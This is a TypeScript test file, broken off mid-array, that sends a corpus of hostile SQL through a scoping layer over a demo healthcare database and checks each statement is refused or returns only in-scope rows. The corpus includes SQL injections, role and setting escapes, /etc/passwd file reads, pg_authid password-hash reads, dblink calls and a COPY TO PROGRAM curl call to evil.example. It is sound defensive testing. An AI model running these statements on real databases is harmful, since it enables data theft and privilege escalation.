/**
 * Hostile SQL, end to end: every statement goes through HTTP to a real control plane and runs (or
 * is refused) against the real demo database with row-level security beneath the rewrite.
 *
 * One connection to demo-healthcare with `read:encounters`, `read:patients`, `period:2024-Q1`:
 * claims, prior_authorizations, coverage_eligibility and adt_events are out of scope; encounters
 * rows are restricted to 2024-01-01 <= period_start < 2024-04-01; patients (no time column) is not
 * period-restricted. Each statement that runs is compared with the true in-scope answer computed
 * directly on the demo database (groundTruth, with the scoping predicates written out by hand), so
 * "no out-of-scope row came back" is checked by value, not by trusting the rewrite.
 *
 * The SQL policy module's unit tests (sql.test.ts, sql-cases.ts) check the rewrite text; this file
 * checks what an agent actually gets back over the wire.
 */
import t, { type Test } from 'tap';
import { api, groundTruth, openConnection, signupAgent, startServer, type TestServer } from '../helpers/server.js';

const Q1_START = '2024-01-01T00:00:00Z';
const Q1_END = '2024-04-01T00:00:00Z';
/** the in-scope encounters, for ground-truth queries only (the harness's privilege, not the agent's) */
const ENC = `(SELECT * FROM demo_healthcare.encounters WHERE period_start >= '${Q1_START}' AND period_start < '${Q1_END}')`;
const PAT = 'demo_healthcare.patients';
const ENC_COUNT = `SELECT count(*) AS n FROM ${ENC} e`;

type Refused = { sql: string; expect: 'refused'; code: 'scope_violation' | 'invalid_sql'; todo?: string };
type Rows = { sql: string; expect: 'rows'; truth: string; ordered?: boolean; todo?: string };
type Timeout = { sql: string; expect: 'timeout'; todo?: string };
/** runs (200) without a ground truth to compare with, e.g. EXPLAIN */
type Ok = { sql: string; expect: 'ok'; todo?: string };
/** either a capped 200 (truncated) or a clean refusal/timeout, never a crash */
type Capped = { sql: string; expect: 'capped'; todo?: string };
type Case = Refused | Rows | Timeout | Ok | Capped;

const refused = (sql: string, code: Refused['code'] = 'scope_violation'): Refused => ({ sql, expect: 'refused', code });
const rows = (sql: string, truth: string, ordered = false): Rows => ({ sql, expect: 'rows', truth, ordered });
const count = (sql: string): Rows => rows(sql, ENC_COUNT);

// ---------------------------------------------------------------------------------------------
// the hostile corpus

const hostile: Case[] = [
  // --- multi-statement tricks
  refused('SELECT 1; DELETE FROM encounters'),
  refused('SELECT 1; COMMIT; DELETE FROM encounters'),
  refused('SELECT count(*) FROM encounters; SELECT * FROM claims'),
  refused('COMMIT; SELECT * FROM claims'),
  refused('ROLLBACK; SET ROLE postgres; SELECT 1'),
  refused('BEGIN; SELECT 1; END'),
  refused("SELECT 1; SELECT set_config('svc.periods', 'all', false)"),
  refused('SELECT count(*) AS n FROM encounters --\n; DELETE FROM encounters'),
  refused('SELECT count(*) AS n FROM encounters;\nSELECT count(*) FROM demo_healthcare.encounters'),
  count('SELECT count(*) AS n FROM encounters;'),
  count('SELECT count(*) AS n FROM encounters;   \n\t'),
  count('SELECT count(*) AS n FROM encounters; -- ; DELETE FROM encounters'),
  count('SELECT count(*) AS n FROM encounters /* ; DELETE FROM encounters */;'),

  // --- comment tricks
  count('/* leading comment; DELETE FROM encounters; */ SELECT count(*) AS n FROM encounters'),
  count('-- SELECT * FROM claims;\nSELECT count(*) AS n FROM encounters'),
  refused('-- SELECT 1\nDELETE FROM encounters'),
  count('SELECT count(*) AS n FROM encounters -- WHERE false'),
  count('/* outer /* nested */ still a comment; DROP TABLE encounters; */ SELECT count(*) AS n FROM encounters'),
  refused('/* /* nested */ SELECT 1; */ DELETE FROM encounters'),
  refused('SELECT * FROM /* encounters */ claims'),
  count('SELECT/**/count(*)AS/**/n/**/FROM/**/encounters'),
  refused('SELECT 1 /* never closed', 'invalid_sql'),
  refused('SELECT 1 /* /* nested */ only one closed', 'invalid_sql'),

  // --- dollar quoting and string tricks
  rows('SELECT $$; DELETE FROM encounters; $$ AS s', `SELECT '; DELETE FROM encounters; '::text AS s`),
  rows('SELECT $tag$ FROM claims $tag$ AS s, count(*) AS n FROM encounters', `SELECT ' FROM claims '::text AS s, count(*) AS n FROM ${ENC} e`),
  rows("SELECT 'x'';DELETE FROM encounters;--' AS s", `SELECT 'x'';DELETE FROM encounters;--'::text AS s`),
  rows("SELECT E'\\'; DELETE FROM encounters; --' AS s", `SELECT '''; DELETE FROM encounters; --'::text AS s`),
  rows("SELECT U&'\\0027; DELETE FROM claims' AS s", `SELECT '''; DELETE FROM claims'::text AS s`),
  refused('SELECT $a$ $$ $a$; DELETE FROM encounters'),
  refused("SELECT 'a\\'; DELETE FROM encounters; --'"),
  refused('SELECT $$ never closed', 'invalid_sql'),
  refused("SELECT 'never closed", 'invalid_sql'),

  // --- writable CTEs
  refused('WITH x AS (DELETE FROM encounters RETURNING *) SELECT count(*) FROM x'),
  refused("WITH x AS (INSERT INTO encounters (encounter_id) VALUES ('enc-999999') RETURNING *) SELECT * FROM x"),
  refused("WITH x AS (UPDATE encounters SET status = 'cancelled' RETURNING *) SELECT count(*) FROM x"),
  refused('WITH x AS (SELECT 1), y AS (DELETE FROM claims RETURNING claim_id) SELECT * FROM x'),
  refused("WITH x AS (UPDATE patients SET given_name = 'x' RETURNING patient_id) SELECT count(*) FROM patients"),
  refused('WITH m AS (MERGE INTO encounters e USING patients p ON e.patient_id = p.patient_id WHEN MATCHED THEN DELETE RETURNING e.*) SELECT count(*) FROM m'),
  refused('SELECT * FROM (WITH d AS (DELETE FROM patients RETURNING *) SELECT * FROM d) s'),

  // --- SELECT INTO / CREATE TABLE AS
  refused('SELECT * INTO stolen FROM encounters'),
  refused('SELECT encounter_id INTO TEMP stolen FROM encounters'),
  refused('CREATE TABLE stolen AS SELECT * FROM encounters'),
  refused('CREATE TEMP VIEW v AS SELECT * FROM claims'),

  // --- row locks and LOCK TABLE
  refused('SELECT * FROM encounters FOR UPDATE'),
  refused('SELECT * FROM encounters FOR SHARE NOWAIT'),
  refused('SELECT * FROM encounters FOR UPDATE SKIP LOCKED'),
  refused('SELECT * FROM encounters e JOIN patients p USING (patient_id) FOR NO KEY UPDATE OF p'),
  refused('SELECT * FROM (SELECT * FROM patients FOR KEY SHARE) s'),
  refused('LOCK TABLE encounters IN ACCESS EXCLUSIVE MODE'),
  refused('LOCK claims'),

  // --- sleeps, locks, files, large objects, network, programs
  refused('SELECT pg_sleep(10)'),
  refused("SELECT pg_sleep_for('5 seconds')"),
  refused('SELECT count(*) FROM encounters WHERE pg_sleep(0.1) IS NULL'),
  refused('SELECT pg_catalog.pg_sleep(1)'),
  refused('SELECT "pg_sleep"(1)'),
  refused('SELECT pg_advisory_lock(1)'),
  refused('SELECT pg_try_advisory_xact_lock(42)'),
  refused("SELECT pg_read_file('/etc/passwd')"),
  refused("SELECT pg_read_binary_file('postgresql.conf')"),
  refused("SELECT pg_ls_dir('.')"),
  refused("SELECT lo_import('/etc/passwd')"),
  refused('SELECT lo_get(1)'),
  refused("SELECT * FROM dblink('host=127.0.0.1 dbname=postgres', 'SELECT claim_id FROM demo_healthcare.claims') AS t(x text)"),
  refused("SELECT dblink_exec('dbname=postgres', 'DROP TABLE demo_healthcare.claims')"),
  refused("COPY encounters TO PROGRAM 'curl http://evil.example'"),
  refused('COPY (SELECT * FROM claims) TO STDOUT'),
  refused("COPY encounters FROM '/tmp/x'"),
  refused('DO $$ BEGIN PERFORM pg_sleep(1); END $$'),
  refused('DO LANGUAGE plpgsql $$ BEGIN DELETE FROM demo_healthcare.encounters; END $$'),
  refused("SELECT query_to_xml('SELECT * FROM demo_healthcare.claims', true, true, '')"),
  refused('SELECT pg_terminate_backend(pg_backend_pid())'),
  refused('SELECT txid_current()'),
  refused('SELECT version()'),

  // --- settings and roles
  refused("SET svc.periods = 'all'"),
  refused("SET LOCAL svc.tables = 'demo_healthcare.claims'"),
  refused('SET search_path = demo_healthcare, public'),
  refused('RESET ALL'),
  refused('RESET svc.periods'),
  refused("SELECT set_config('svc.periods', 'all', true)"),
  refused("SELECT count(*) FROM encounters WHERE set_config('svc.periods', 'all', true) IS NOT NULL"),
  refused('SET ROLE postgres'),
  refused('SET SESSION AUTHORIZATION postgres'),
  refused('RESET ROLE'),
  refused("SELECT current_setting('svc.periods')"),
  refused('SHOW svc.tables'),
  refused('SELECT current_user'),
  refused('SET TRANSACTION READ WRITE'),
  refused('START TRANSACTION READ WRITE'),

  // --- catalogs and statistics
  refused('SELECT * FROM pg_class'),
  refused("SELECT * FROM pg_catalog.pg_stats WHERE tablename = 'claims'"),
  refused('SELECT * FROM pg_statistic'),
  refused('SELECT * FROM pg_stat_activity'),
  refused('SELECT * FROM information_schema.tables'),
  refused('SELECT * FROM information_schema.columns WHERE table_name = \'claims\''),
  refused('SELECT * FROM pg_roles'),
  refused('SELECT * FROM pg_settings'),
  refused('SELECT * FROM pg_policies'),
  refused('SELECT * FROM svc_meta.demo_version'),
  refused('SELECT count(*) FROM encounters e JOIN pg_namespace n ON true'),
  refused('SELECT * FROM pg_temp.encounters'),
  // system schemas in any letter case or quoting (#12): never readable, whatever the scopes
  refused('SELECT rolname, rolpassword FROM pg_catalog.pg_authid'),
  refused('SELECT * FROM "PG_CATALOG".Pg_Authid'),
  refused('SELECT * FROM PG_CATALOG.PG_SHADOW'),
  refused('SELECT * FROM "pg_catalog"."pg_stat_activity"'),
  refused('SELECT name, setting FROM Pg_Catalog.pg_settings'),
  refused('SELECT * FROM pg_catalog.pg_hba_file_rules'),
  refused('SELECT * FROM INFORMATION_SCHEMA.TABLES'),
  refused('SELECT * FROM "information_schema"."columns"'),
  refused('SELECT * FROM pg_toast.pg_toast_1262'),
  refused('SELECT * FROM pg_temp_1.encounters'),
  refused('SELECT * FROM pg_toast_temp_1.x'),
  refused('SELECT count(*) FROM encounters e JOIN "PG_CATALOG"."PG_AUTHID" a ON true'),
  refused('WITH x AS (SELECT * FROM pg_catalog.pg_shadow) SELECT * FROM x'),

  // --- quoted, case-folded and schema-qualified names
  refused('SELECT count(*) FROM "ENCOUNTERS"'),
  count('SELECT count(*) AS n FROM ENCOUNTERS'),
  count('SELECT count(*) AS n FROM EnCoUnTeRs'),
  count('SELECT count(*) AS n FROM "encounters"'),
  count('SELECT count(*) AS n FROM demo_healthcare.encounters'),
  count('SELECT count(*) AS n FROM "demo_healthcare"."encounters"'),
  count('SELECT count(*) AS n FROM DEMO_HEALTHCARE.ENCOUNTERS'),
  count('SELECT count(*) AS n FROM U&"\\0065ncounters"'),
  count('SELECT count(*) AS n FROM ONLY encounters'),
  refused('SELECT * FROM demo_healthcare.claims'),
  refused('SELECT * FROM "demo_healthcare"."claims"'),
  refused('SELECT * FROM DEMO_HEALTHCARE.CLAIMS'),
  refused('SELECT * FROM "Claims"'),
  refused('SELECT count(*) FROM public.encounters'),
  refused('SELECT * FROM public.claims'),
  refused('SELECT * FROM U&"\\0063laims"'),
  refused('SELECT * FROM U&"!0063laims" UESCAPE \'!\''),
  refused('SELECT * FROM demo_healthcare.U&"\\0061dt_events"'),
  refused('SELECT * FROM postgres.demo_healthcare.claims'),
  refused('SELECT count(*) FROM otherdb.demo_healthcare.encounters'),
  count('SELECT count(*) AS n FROM encounters TABLESAMPLE BERNOULLI (100)'),
  count('SELECT count(*) AS n FROM encounters AS x(a, b, c, d, e, f, g) WHERE x.g IS NOT NULL OR true'),
  count('SELECT count(*) AS n FROM (SELECT e FROM encounters e) s'),
  refused('SELECT period_start(e) FROM encounters e'),
  refused('WITH RECURSIVE encounters AS (SELECT * FROM encounters) SELECT count(*) FROM encounters', 'invalid_sql'),
  refused("SELECT table_to_xml('demo_healthcare.claims', true, false, '')"),
  refused('SELECT * FROM ONLY claims'),
  refused('SELECT * FROM claims TABLESAMPLE SYSTEM (10)'),
  refused('SELECT count(*) FROM "encounters"" ; DELETE FROM encounters --"'),
  rows('SELECT count(*) AS n FROM patients AS encounters', `SELECT count(*) AS n FROM ${PAT}`),
  count("SELECT count(*) AS n FROM encounters AS claims WHERE claims.period_start < '2024-01-01' OR true"),

  // --- set operations reaching forbidden tables, and the allowed ones
  refused('SELECT encounter_id FROM encounters UNION SELECT claim_id FROM claims'),
  refused('SELECT patient_id FROM patients INTERSECT SELECT patient_id FROM adt_events'),
  refused('SELECT encounter_id FROM encounters EXCEPT SELECT encounter_id FROM prior_authorizations'),
  refused('(SELECT 1) UNION ALL (SELECT count(*) FROM coverage_eligibility)'),
  refused('SELECT 1 UNION SELECT 2 UNION SELECT 3 UNION ALL SELECT count(*) FROM demo_healthcare.claims'),
  rows(
    'SELECT count(*) AS n FROM (SELECT encounter_id FROM encounters UNION ALL SELECT encounter_id FROM encounters) u',
    `SELECT 2 * count(*) AS n FROM ${ENC} e`,
  ),
  rows(
    'SELECT count(*) AS n FROM (SELECT patient_id FROM patients EXCEPT SELECT patient_id FROM encounters) u',
    `SELECT count(*) AS n FROM (SELECT patient_id FROM ${PAT} EXCEPT SELECT patient_id FROM ${ENC} e) u`,
  ),

  // --- LATERAL
  refused('SELECT * FROM encounters e, LATERAL (SELECT * FROM claims c WHERE c.encounter_id = e.encounter_id) x'),
  refused('SELECT * FROM patients p CROSS JOIN LATERAL (SELECT count(*) FROM adt_events a WHERE a.patient_id = p.patient_id) x'),
  refused('SELECT count(*) FROM encounters e JOIN LATERAL (SELECT * FROM prior_authorizations) pa ON true'),
  rows(
    "SELECT sum(l.n) AS total, count(*) FILTER (WHERE l.n > 0) AS with_visits FROM patients p CROSS JOIN LATERAL (SELECT count(*) AS n FROM encounters e WHERE e.patient_id = p.patient_id) l WHERE p.patient_id <= 'pat-000060'",
    `SELECT sum(l.n) AS total, count(*) FILTER (WHERE l.n > 0) AS with_visits FROM ${PAT} p CROSS JOIN LATERAL (SELECT count(*) AS n FROM ${ENC} e WHERE e.patient_id = p.patient_id) l WHERE p.patient_id <= 'pat-000060'`,
  ),

  // --- scalar subqueries in every clause
  refused('SELECT encounter_id, (SELECT count(*) FROM claims) FROM encounters'),
  refused('SELECT * FROM encounters WHERE encounter_id IN (SELECT encounter_id FROM claims)'),
  refused('SELECT * FROM encounters WHERE EXISTS (SELECT 1 FROM adt_events a WHERE a.encounter_id = encounters.encounter_id)'),
  refused('SELECT status, count(*) FROM encounters GROUP BY status HAVING count(*) > (SELECT count(*) FROM claims)'),
  refused('SELECT encounter_id FROM encounters ORDER BY (SELECT max(total_amount) FROM claims c WHERE c.encounter_id = encounters.encounter_id)'),
  refused('SELECT count(*) FROM encounters GROUP BY (SELECT 1 FROM adt_events LIMIT 1)'),
  refused('SELECT count(*) FROM encounters e JOIN patients p ON p.patient_id = e.patient_id AND EXISTS (SELECT 1 FROM claims)'),
  refused('SELECT CASE WHEN EXISTS (SELECT 1 FROM prior_authorizations) THEN 1 END FROM encounters'),
  refused("SELECT coalesce((SELECT claim_id FROM claims LIMIT 1), 'x')"),
  refused('SELECT * FROM encounters LIMIT (SELECT count(*) FROM claims)'),
  refused('SELECT sum(1) OVER (ORDER BY (SELECT 1 FROM claims LIMIT 1)) FROM encounters'),
  refused('SELECT ARRAY(SELECT claim_id FROM claims)'),
  refused('SELECT * FROM encounters WHERE patient_id = ANY (SELECT patient_id FROM coverage_eligibility)'),
  refused('SELECT (SELECT (SELECT (SELECT count(*) FROM adt_events)))'),
  refused('SELECT count(*) FROM encounters WHERE encounter_id IN (SELECT encounter_id FROM encounters UNION SELECT encounter_id FROM claims)'),
  refused('SELECT * FROM encounters e WHERE e.patient_id IN (SELECT patient_id FROM patients WHERE patient_id IN (SELECT patient_id FROM claims))'),
  refused('SELECT * FROM encounters NATURAL JOIN claims'),
  refused('SELECT * FROM (encounters e JOIN claims c USING (encounter_id))'),
  refused('SELECT row_to_json(c) FROM claims c'),
  refused('SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM claims)) FROM encounters'),

  // --- CTE shadowing
  count('WITH claims AS (SELECT * FROM encounters) SELECT count(*) AS n FROM claims'),
  count('WITH adt_events AS (SELECT * FROM encounters), claims AS (SELECT * FROM adt_events) SELECT count(*) AS n FROM claims'),
  count('WITH encounters AS (SELECT * FROM encounters) SELECT count(*) AS n FROM encounters'),
  count('SELECT (WITH claims AS (SELECT * FROM encounters) SELECT count(*) FROM claims) AS n'),
  rows('WITH RECURSIVE claims(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM claims WHERE n < 5) SELECT count(*) AS n FROM claims', 'SELECT 5::bigint AS n'),
  refused('WITH encounters AS (SELECT * FROM claims) SELECT count(*) FROM encounters'),
  refused('WITH x AS (SELECT * FROM claims) SELECT 1'),
  refused('WITH a AS (SELECT 1) SELECT * FROM a, (WITH claims AS (SELECT 1) SELECT 1) s, claims'),
  refused('WITH claims AS (SELECT * FROM encounters) SELECT count(*) FROM claims, (SELECT * FROM demo_healthcare.claims) c2'),
  refused('SELECT (WITH claims AS (SELECT 1) SELECT count(*) FROM claims), (SELECT count(*) FROM claims)'),
  refused('WITH e AS (SELECT * FROM encounters), c AS (SELECT * FROM e JOIN prior_authorizations USING (encounter_id)) SELECT count(*) FROM c'),

  // --- widening attempts
  count('SELECT count(*) AS n FROM encounters WHERE true OR 1=1'),
  count("SELECT count(*) AS n FROM encounters WHERE period_start < '2024-01-01' OR 1=1"),
  count("SELECT count(*) AS n FROM encounters e WHERE e.period_start >= '2025-01-01' OR e.period_start IS NULL OR true"),
  count("SELECT count(*) AS n FROM encounters WHERE encounter_id = 'enc-000001' OR true"),
  rows("SELECT count(*) AS n FROM encounters WHERE NOT (period_start >= '2024-01-01' AND period_start < '2024-04-01')", 'SELECT 0::bigint AS n'),
  rows("SELECT count(*) AS n FROM encounters WHERE period_start < '2024-01-01' OR period_start >= '2024-04-01'", 'SELECT 0::bigint AS n'),
  rows(
    'SELECT min(period_start) AS lo, max(period_start) AS hi FROM encounters WHERE 1=1 OR period_start > now()',
    `SELECT min(period_start) AS lo, max(period_start) AS hi FROM ${ENC} e`,
  ),
  rows(
    "SELECT encounter_id FROM encounters WHERE encounter_id IN ('enc-000001', 'enc-000002', 'enc-005999') OR encounter_id < 'enc-000010'",
    `SELECT encounter_id FROM ${ENC} e WHERE encounter_id IN ('enc-000001', 'enc-000002', 'enc-005999') OR encounter_id < 'enc-000010'`,
  ),

  // --- error oracles: an expression that would fail on an out-of-scope row must never see one
  count("SELECT count(*) AS n FROM encounters WHERE 1/(CASE WHEN period_start < '2024-01-01' THEN 0 ELSE 1 END) = 1"),
  count("SELECT count(*) AS n FROM encounters WHERE 1/(CASE WHEN period_start >= '2024-04-01' THEN 0 ELSE 1 END) = 1"),
  count("SELECT count(*) AS n FROM encounters WHERE (CASE WHEN period_start < '2024-01-01' THEN 'x' ELSE '1' END)::int = 1"),
  count('SELECT count(*) AS n FROM encounters WHERE 1/(extract(year FROM period_start)::int - 2023) > 0'),
  count("SELECT count(*) AS n FROM encounters WHERE period_start > '2024-03-31' OR 1/(CASE WHEN period_start < '2024-01-01' THEN 0 ELSE 1 END) = 1"),
  rows("SELECT sum(1/(CASE WHEN period_start >= '2024-04-01' THEN 0 ELSE 1 END)) AS n FROM encounters", `SELECT count(*) AS n FROM ${ENC} e`),
  count(
    "SELECT count(*) AS n FROM patients p JOIN encounters e ON e.patient_id = p.patient_id AND 1/(CASE WHEN e.period_start < '2024-01-01' THEN 0 ELSE 1 END) = 1",
  ),
  count("SELECT count(*) AS n FROM (SELECT encounter_id FROM encounters ORDER BY 1/(CASE WHEN period_start < '2024-01-01' THEN 0 ELSE 1 END)) s"),
  count("SELECT count(*) AS n FROM encounters GROUP BY 1/(CASE WHEN period_start >= '2024-04-01' THEN 0 ELSE 1 END)"),
  rows(
    "SELECT count(*) AS n FROM patients p WHERE EXISTS (SELECT 1 FROM encounters e WHERE e.patient_id = p.patient_id AND 1/(CASE WHEN e.period_start < '2024-01-01' THEN 0 ELSE 1 END) = 1)",
    `SELECT count(*) AS n FROM ${PAT} p WHERE EXISTS (SELECT 1 FROM ${ENC} e WHERE e.patient_id = p.patient_id)`,
  ),

  count("WITH x AS NOT MATERIALIZED (SELECT * FROM encounters) SELECT count(*) AS n FROM x WHERE 1/(CASE WHEN period_start < '2024-01-01' THEN 0 ELSE 1 END) = 1"),
  count("SELECT count(*) AS n FROM (SELECT * FROM encounters) s WHERE (CASE WHEN s.period_start >= '2024-04-01' THEN 'boom' ELSE '1' END)::int = 1"),
  rows(
    "SELECT count(*) FILTER (WHERE 1/(CASE WHEN period_start < '2024-01-01' THEN 0 ELSE 1 END) = 1) AS n FROM encounters",
    ENC_COUNT,
  ),
  rows(
    "SELECT DISTINCT count(*) OVER (PARTITION BY 1/(CASE WHEN period_start < '2024-01-01' THEN 0 ELSE 1 END)) AS n FROM encounters",
    ENC_COUNT,
  ),
  rows("SELECT count(*) AS n FROM encounters WHERE period_start::text LIKE '2023%' OR period_start::text LIKE '2025%'", 'SELECT 0::bigint AS n'),
  rows(
    'SELECT extract(year FROM period_start) AS y, extract(quarter FROM period_start) AS q, count(*) AS n FROM encounters GROUP BY 1, 2',
    `SELECT extract(year FROM period_start) AS y, extract(quarter FROM period_start) AS q, count(*) AS n FROM ${ENC} e GROUP BY 1, 2`,
  ),
  rows(
    "SELECT count(*) AS n FROM encounters e WHERE e.encounter_id IN (SELECT encounter_id FROM encounters e2 WHERE e2.period_start < '2024-01-01')",
    'SELECT 0::bigint AS n',
  ),

  // --- window functions over the whole table
  rows('SELECT DISTINCT count(*) OVER () AS n FROM encounters', ENC_COUNT),
  rows('SELECT max(rn) AS n FROM (SELECT row_number() OVER (ORDER BY period_start) AS rn FROM encounters) s', ENC_COUNT),
  rows('SELECT DISTINCT first_value(period_start) OVER (ORDER BY period_start) AS first FROM encounters', `SELECT min(period_start) AS first FROM ${ENC} e`),
  rows(
    'SELECT encounter_id, lag(encounter_id) OVER (ORDER BY encounter_id) AS prev, lead(encounter_id) OVER (ORDER BY encounter_id DESC) AS nxt FROM encounters ORDER BY encounter_id LIMIT 1',
    `SELECT min(encounter_id) AS encounter_id, NULL::text AS prev, NULL::text AS nxt FROM ${ENC} e`,
  ),
  rows(
    'SELECT DISTINCT last_value(period_start) OVER (ORDER BY period_start ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) AS last FROM encounters',
    `SELECT max(period_start) AS last FROM ${ENC} e`,
  ),

  // --- TABLE and VALUES
  rows('TABLE encounters', `SELECT * FROM ${ENC} e`),
  rows('SELECT count(*) AS n FROM (TABLE encounters) t', ENC_COUNT),
  refused('TABLE claims'),
  refused('TABLE demo_healthcare.adt_events'),
  refused('VALUES (1), ((SELECT count(*) FROM claims))'),
  refused("VALUES ('x') UNION ALL SELECT claim_id FROM claims"),
  rows("SELECT * FROM (VALUES ('claims'), ('adt_events')) AS v(t)", "SELECT * FROM (VALUES ('claims'), ('adt_events')) AS v(t)"),
  rows(
    "SELECT count(*) AS n FROM encounters e JOIN (VALUES ('enc-000001'), ('enc-000002'), ('enc-005999')) v(id) ON v.id = e.encounter_id",
    `SELECT count(*) AS n FROM ${ENC} e JOIN (VALUES ('enc-000001'), ('enc-000002'), ('enc-005999')) v(id) ON v.id = e.encounter_id`,
  ),

  // --- EXPLAIN
  refused('EXPLAIN ANALYZE SELECT * FROM encounters'),
  refused('EXPLAIN ANALYSE SELECT count(*) FROM encounters'),
  refused('EXPLAIN (ANALYZE) SELECT * FROM encounters'),
  refused('EXPLAIN (FORMAT JSON, ANALYZE true) SELECT * FROM encounters'),
  refused('EXPLAIN SELECT * FROM claims'),
  refused('EXPLAIN DELETE FROM encounters'),
  refused('EXPLAIN (GENERIC_PLAN) SELECT * FROM encounters'),
  { sql: 'EXPLAIN SELECT * FROM encounters', expect: 'ok' },
  { sql: 'EXPLAIN (FORMAT JSON, COSTS OFF) SELECT count(*) FROM encounters e JOIN patients p USING (patient_id)', expect: 'ok' },

  // --- casts to catalog lookups
  refused("SELECT 'demo_healthcare.claims'::regclass"),
  refused("SELECT 'claims'::regclass::oid"),
  refused('SELECT 16384::oid'),
  refused("SELECT CAST('pg_class' AS regclass)"),
  refused("SELECT 'pg_sleep'::regproc"),
  refused("SELECT 'demo_healthcare'::pg_catalog.regnamespace"),
  refused("SELECT to_regclass('claims')"),
  refused('SELECT tableoid::regclass FROM encounters'),
  refused("SELECT '<x/>'::xml"),

  // --- parameters, cursors, sessions and other statements
  refused('SELECT * FROM encounters WHERE encounter_id = $1'),
  refused('PREPARE p AS SELECT * FROM claims'),
  refused('EXECUTE p'),
  refused('DECLARE c CURSOR FOR SELECT * FROM claims'),
  refused('DISCARD ALL'),
  refused('VACUUM encounters'),
  refused('TRUNCATE encounters'),
  refused("DELETE FROM encounters WHERE period_start < '2024-01-01'"),
  refused('GRANT SELECT ON demo_healthcare.claims TO PUBLIC'),
  refused('ALTER TABLE demo_healthcare.encounters DISABLE ROW LEVEL SECURITY'),
  refused('CREATE EXTENSION dblink'),
  refused("LOAD 'plpgsql'"),
  refused('SELECT 1 OPERATOR(public.+) 1'),
  refused("SELECT * FROM JSON_TABLE('[1]'::jsonb, '$[*]' COLUMNS (x int PATH '$')) jt"),
  refused('SELECT * FROM ROWS FROM (generate_series(1, 3))'),

  // --- set-returning functions in FROM, blow-ups and huge values
  refused('SELECT * FROM generate_series(1, 10)'),
  refused('SELECT count(*) FROM generate_series(1, 100000000)'),
  refused('SELECT * FROM encounters, unnest(ARRAY[1, 2])'),
  refused('SELECT * FROM pg_sleep(5)'),
  { sql: 'SELECT count(*) FROM encounters a, encounters b, encounters c', expect: 'timeout' },
  { sql: 'SELECT count(*) FROM patients a CROSS JOIN patients b CROSS JOIN patients c', expect: 'timeout' },
  { sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r', expect: 'timeout' },
  {
    sql: 'WITH RECURSIVE r AS (SELECT encounter_id, 0 AS d FROM encounters UNION ALL SELECT r.encounter_id, r.d + 1 FROM r JOIN encounters e ON true) SELECT count(*) FROM r',
    expect: 'timeout',
  },
  { sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r', expect: 'capped' },
  { sql: "SELECT repeat('x', 100000000) AS s", expect: 'capped' },
  { sql: "SELECT repeat('x', 200000) AS s FROM encounters", expect: 'capped' },
  { sql: "SELECT repeat(repeat('x', 100000), 100000) AS s", expect: 'capped' },
  { sql: "SELECT string_agg(repeat('x', 100000), '') AS s FROM encounters", expect: 'capped' },
];

// ---------------------------------------------------------------------------------------------
// legitimate analytics that must keep working, with their ground truth

const legit: Case[] = [
  rows('SELECT class_code, count(*) AS n FROM encounters GROUP BY class_code', `SELECT class_code, count(*) AS n FROM ${ENC} e GROUP BY class_code`),
  rows(
    'SELECT class_code, status, count(*) AS n FROM encounters GROUP BY ROLLUP (class_code, status)',
    `SELECT class_code, status, count(*) AS n FROM ${ENC} e GROUP BY ROLLUP (class_code, status)`,
  ),
  rows(
    'SELECT class_code, status, grouping(class_code, status) AS g, count(*) AS n FROM encounters GROUP BY CUBE (class_code, status)',
    `SELECT class_code, status, grouping(class_code, status) AS g, count(*) AS n FROM ${ENC} e GROUP BY CUBE (class_code, status)`,
  ),
  rows(
    'SELECT class_code, facility, count(*) AS n FROM encounters GROUP BY GROUPING SETS ((class_code), (facility), ())',
    `SELECT class_code, facility, count(*) AS n FROM ${ENC} e GROUP BY GROUPING SETS ((class_code), (facility), ())`,
  ),
  rows(
    'SELECT reason_code, count(*) AS n FROM encounters GROUP BY reason_code HAVING count(*) >= 10 ORDER BY n DESC',
    `SELECT reason_code, count(*) AS n FROM ${ENC} e GROUP BY reason_code HAVING count(*) >= 10`,
  ),
  rows(
    'SELECT * FROM (SELECT class_code, encounter_id, rank() OVER (PARTITION BY class_code ORDER BY length_of_stay_minutes DESC NULLS LAST, encounter_id) AS r FROM encounters) s WHERE r <= 3',
    `SELECT * FROM (SELECT class_code, encounter_id, rank() OVER (PARTITION BY class_code ORDER BY length_of_stay_minutes DESC NULLS LAST, encounter_id) AS r FROM ${ENC} e) s WHERE r <= 3`,
  ),
  rows(
    'SELECT encounter_id, lag(encounter_id) OVER (PARTITION BY patient_id ORDER BY period_start, encounter_id) AS prev FROM encounters',
    `SELECT encounter_id, lag(encounter_id) OVER (PARTITION BY patient_id ORDER BY period_start, encounter_id) AS prev FROM ${ENC} e`,
  ),
  rows(
    "SELECT date_trunc('week', period_start) AS wk, count(*) AS n, sum(count(*)) OVER (ORDER BY date_trunc('week', period_start)) AS running FROM encounters GROUP BY 1",
    `SELECT date_trunc('week', period_start) AS wk, count(*) AS n, sum(count(*)) OVER (ORDER BY date_trunc('week', period_start)) AS running FROM ${ENC} e GROUP BY 1`,
  ),
  rows(
    "SELECT count(*) FILTER (WHERE class_code = 'EMER') AS emer, count(*) FILTER (WHERE class_code = 'IMP') AS imp, count(*) FILTER (WHERE period_end IS NULL) AS open FROM encounters",
    `SELECT count(*) FILTER (WHERE class_code = 'EMER') AS emer, count(*) FILTER (WHERE class_code = 'IMP') AS imp, count(*) FILTER (WHERE period_end IS NULL) AS open FROM ${ENC} e`,
  ),
  rows(
    'SELECT class_code, percentile_cont(0.5) WITHIN GROUP (ORDER BY length_of_stay_minutes) AS median, percentile_disc(0.9) WITHIN GROUP (ORDER BY length_of_stay_minutes) AS p90 FROM encounters GROUP BY class_code',
    `SELECT class_code, percentile_cont(0.5) WITHIN GROUP (ORDER BY length_of_stay_minutes) AS median, percentile_disc(0.9) WITHIN GROUP (ORDER BY length_of_stay_minutes) AS p90 FROM ${ENC} e GROUP BY class_code`,
  ),
  rows(
    'SELECT count(*) AS pairs FROM encounters a JOIN encounters b ON a.patient_id = b.patient_id AND a.encounter_id < b.encounter_id',
    `SELECT count(*) AS pairs FROM ${ENC} a JOIN ${ENC} b ON a.patient_id = b.patient_id AND a.encounter_id < b.encounter_id`,
  ),
  rows(
